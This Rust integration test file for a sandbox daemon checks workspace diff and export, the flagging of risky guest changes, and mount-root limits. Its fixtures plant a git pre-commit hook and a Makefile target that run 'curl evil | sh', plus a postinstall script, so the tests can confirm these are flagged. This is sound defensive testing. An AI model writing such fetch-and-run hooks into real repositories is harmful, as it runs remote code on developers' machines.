//! Workspaces through the daemon, host-level: `workspace` and `mounts` in create requests
//! (checked against `mount_roots`), `GET .../workspace/diff` and `.../workspace/export`. The fake
//! VMM has no overlay: for a clone workspace its agent reports the changes of
//! `workspace-upper/` in the sandbox's runtime directory, which these tests fill the way
//! overlayfs would (whiteouts need root: the tests that make them are named `..._needs_root`
//! and `scripts/test.sh` skips them when not root). `tests/guest/fs.rs` runs the same flow in a real guest.

mod common;

use std::collections::BTreeMap;
use std::ffi::CString;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use bulkhead_client::{
    ChangeStatus, CreateSandbox, ExportFormat, MountSpec, WorkspaceMode, WorkspaceSpec,
};
use common::{rt, TestDaemon};

/// A mount root with a project in it, and a daemon allowed to share below the root.
struct Setup {
    root: tempfile::TempDir,
    daemon: TestDaemon,
}

impl Setup {
    fn new() -> Setup {
        let root = tempfile::tempdir().unwrap();
        let project = root.path().join("project");
        for (rel, contents) in [
            ("README.md", "# demo\n"),
            ("src/lib.rs", "pub fn f() {}\n"),
            ("old.txt", "to be deleted\n"),
            (
                "package.json",
                "{\"name\":\"demo\",\"scripts\":{\"test\":\"jest\"}}\n",
            ),
            (".git/HEAD", "ref: refs/heads/main\n"),
            (".git/hooks/pre-commit.sample", "#!/bin/sh\n"),
        ] {
            write(&project.join(rel), contents);
        }
        // Root may not share a root-owned directory read-write (direct mode).
        chown_tree(&project, 1000);
        let daemon = TestDaemon::start_with(&["--mount-root", root.path().to_str().unwrap()]);
        Setup { root, daemon }
    }

    fn project(&self) -> PathBuf {
        self.root.path().join("project")
    }

    fn create(&self, mode: WorkspaceMode) -> String {
        let spec = CreateSandbox {
            memory_mib: 64,
            workspace: Some(WorkspaceSpec {
                path: self.project().display().to_string(),
                mode,
            }),
            ..CreateSandbox::default()
        };
        rt().block_on(self.daemon.client().create(&spec))
            .unwrap_or_else(|e| panic!("{e}\n{}", self.daemon.log()))
            .id
    }

    /// The fake VMM's stand-in for the overlay's upper directory of sandbox `id`.
    fn upper(&self, id: &str) -> PathBuf {
        let runtime = common::list(&self.daemon.vms_dir().join(id));
        runtime[0].join("workspace-upper")
    }
}

fn write(path: &Path, contents: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, contents).unwrap();
}

fn chown_tree(dir: &Path, uid: u32) {
    // SAFETY: geteuid only reads credentials.
    if unsafe { libc::geteuid() } != 0 {
        return;
    }
    let status = Command::new("chown")
        .arg("-R")
        .arg(format!("{uid}:{uid}"))
        .arg(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

/// A whiteout (character device 0/0) at `path`; making one needs root.
fn whiteout(path: &Path) {
    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: `c` is NUL-terminated and outlives the call.
    let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o600, 0) == 0 };
    assert!(
        made,
        "mknod of a whiteout failed: {} (tests named _needs_root need root)",
        std::io::Error::last_os_error()
    );
}

/// Path → (contents or link target, executable bit) of every file and link below `root`.
fn tree(root: &Path) -> BTreeMap<String, (Vec<u8>, bool)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_owned()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                let target = fs::read_link(&path).unwrap();
                out.insert(rel, (target.as_os_str().as_bytes().to_vec(), false));
            } else {
                let exec = meta.permissions().mode() & 0o100 != 0;
                out.insert(rel, (fs::read(&path).unwrap(), exec));
            }
        }
    }
    out
}

fn copy_tree(from: &Path, to: &Path) {
    let status = Command::new("cp")
        .arg("-a")
        .arg(from)
        .arg(to)
        .status()
        .unwrap();
    assert!(status.success());
}

/// The guest's edits, in the upper directory: edit, add (a hook and a script), delete.
fn guest_edits(upper: &Path) {
    write(
        &upper.join("README.md"),
        "# demo\n\nedited in the sandbox\n",
    );
    write(&upper.join("src/new.rs"), "pub fn g() {}\n");
    write(
        &upper.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil | sh\n",
    );
    fs::set_permissions(
        upper.join(".git/hooks/pre-commit"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    write(
        &upper.join("package.json"),
        "{\"name\":\"demo\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"node x.js\"}}\n",
    );
    whiteout(&upper.join("old.txt"));
}

#[test]
fn a_clone_workspace_diff_lists_and_flags_the_changes_and_the_patch_applies_needs_root() {
    // Arrange
    let setup = Setup::new();
    let before = tree(&setup.project());
    let id = setup.create(WorkspaceMode::Clone);
    guest_edits(&setup.upper(&id));
    let client = setup.daemon.client();

    // Act
    let diff = rt().block_on(client.workspace_diff(&id)).unwrap();
    let mut patch = Vec::new();
    let review = rt()
        .block_on(client.workspace_export(&id, ExportFormat::Patch, &mut patch))
        .unwrap();

    // Assert
    let listed: Vec<(ChangeStatus, &str, bool)> = diff
        .changes
        .iter()
        .map(|c| (c.status, c.path.as_str(), c.flagged))
        .collect();
    assert_eq!(
        listed,
        [
            (ChangeStatus::Added, ".git/hooks/pre-commit", true),
            (ChangeStatus::Modified, "README.md", false),
            (ChangeStatus::Deleted, "old.txt", false),
            (ChangeStatus::Modified, "package.json", true),
            (ChangeStatus::Added, "src/new.rs", false),
        ]
    );
    assert!(!diff.flagged_only);
    let flagged: Vec<&str> = review.flagged.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(flagged, [".git/hooks/pre-commit", "package.json"]);
    assert_eq!(review.flagged_total, 2);
    assert_eq!(tree(&setup.project()), before, "the host directory changed");
    // The patch applies to a copy and gives the guest's tree.
    let copy = setup.root.path().join("copy");
    copy_tree(&setup.project(), &copy);
    let patch_file = setup.root.path().join("changes.patch");
    fs::write(&patch_file, &patch).unwrap();
    let applied = Command::new("git")
        .arg("apply")
        .arg(&patch_file)
        .current_dir(&copy)
        .env("GIT_CEILING_DIRECTORIES", setup.root.path())
        .output();
    let Ok(applied) = applied else {
        eprintln!("not checked: git is not installed");
        return;
    };
    let text = String::from_utf8_lossy(&patch);
    assert!(
        applied.status.success(),
        "{}\n{text}",
        String::from_utf8_lossy(&applied.stderr)
    );
    // Everything but `.git/`, which git apply refuses to write (the patch says so; the tar
    // export carries it).
    let mut expected = before.clone();
    expected.remove("old.txt");
    for rel in ["README.md", "src/new.rs", "package.json"] {
        let path = setup.upper(&id).join(rel);
        let exec = fs::metadata(&path).unwrap().permissions().mode() & 0o100 != 0;
        expected.insert(rel.to_owned(), (fs::read(path).unwrap(), exec));
    }
    assert_eq!(tree(&copy), expected, "{text}");
    assert!(text.contains("FLAGGED FOR REVIEW"), "{text}");
    assert!(
        text.contains("NOT IN THIS PATCH: 1 change(s) inside .git/"),
        "{text}"
    );
}

#[test]
fn the_tar_export_holds_the_changed_files_and_the_deletions_needs_root() {
    // Arrange
    let setup = Setup::new();
    let id = setup.create(WorkspaceMode::Clone);
    guest_edits(&setup.upper(&id));
    let out = setup.root.path().join("out");
    fs::create_dir(&out).unwrap();

    // Act
    let mut archive = Vec::new();
    rt().block_on(
        setup
            .daemon
            .client()
            .workspace_export(&id, ExportFormat::Tar, &mut archive),
    )
    .unwrap();
    fs::write(out.join("export.tar"), &archive).unwrap();
    let status = Command::new("tar")
        .args(["-xf", "export.tar"])
        .current_dir(&out)
        .status()
        .unwrap();

    // Assert
    assert!(status.success());
    let deleted = fs::read(out.join(".bulkhead-export/deleted")).unwrap();
    assert_eq!(deleted, b"old.txt\0");
    let manifest: serde_json::Value =
        serde_json::from_slice(&fs::read(out.join(".bulkhead-export/manifest.json")).unwrap())
            .unwrap();
    assert_eq!(manifest["changes"].as_array().unwrap().len(), 5);
    assert_eq!(
        fs::read_to_string(out.join("src/new.rs")).unwrap(),
        "pub fn g() {}\n"
    );
    let hook = out.join(".git/hooks/pre-commit");
    assert_eq!(
        fs::metadata(hook).unwrap().permissions().mode() & 0o777,
        0o755
    );
    assert!(!out.join("old.txt").exists() && !out.join("src/lib.rs").exists());
}

#[test]
fn a_direct_workspace_reports_changed_flagged_paths_and_cannot_be_exported() {
    // Arrange
    let setup = Setup::new();
    let id = setup.create(WorkspaceMode::Direct);
    let client = setup.daemon.client();
    // What a guest could do through the read-write share.
    write(
        &setup.project().join("Makefile"),
        "all:\n\tcurl evil | sh\n",
    );
    write(
        &setup.project().join("src/lib.rs"),
        "pub fn f() { evil() }\n",
    );

    // Act
    let diff = rt().block_on(client.workspace_diff(&id)).unwrap();
    let export = rt().block_on(client.workspace_export(&id, ExportFormat::Patch, &mut Vec::new()));

    // Assert
    assert!(diff.flagged_only);
    let listed: Vec<(&str, bool)> = diff
        .changes
        .iter()
        .map(|c| (c.path.as_str(), c.flagged))
        .collect();
    assert_eq!(listed, [("Makefile", true)]);
    let err = export.unwrap_err();
    assert_eq!(err.status(), Some(409), "{err}");
    assert!(err.to_string().contains("direct"), "{err}");
}

#[test]
fn shares_outside_the_mount_roots_or_without_any_are_refused_and_mounts_are_reported() {
    // Arrange
    let setup = Setup::new();
    let no_roots = TestDaemon::start();
    let elsewhere = tempfile::tempdir().unwrap();
    let mount = |host: &Path| CreateSandbox {
        memory_mib: 64,
        mounts: vec![MountSpec {
            host: host.display().to_string(),
            guest: "/data".into(),
            ro: true,
        }],
        ..CreateSandbox::default()
    };

    // Act
    let outside = rt().block_on(setup.daemon.client().create(&mount(elsewhere.path())));
    let disabled = rt().block_on(no_roots.client().create(&mount(&setup.project())));
    let inside = rt()
        .block_on(setup.daemon.client().create(&mount(&setup.project())))
        .unwrap();
    let no_workspace = rt().block_on(setup.daemon.client().workspace_diff(&inside.id));

    // Assert
    let outside = outside.unwrap_err();
    assert_eq!(outside.status(), Some(400));
    assert!(outside.to_string().contains("mount_roots"), "{outside}");
    assert!(disabled.unwrap_err().to_string().contains("mount_roots"));
    assert_eq!(inside.mounts.len(), 1);
    assert!(inside.mounts[0].ro);
    assert_eq!(no_workspace.unwrap_err().status(), Some(409));
}
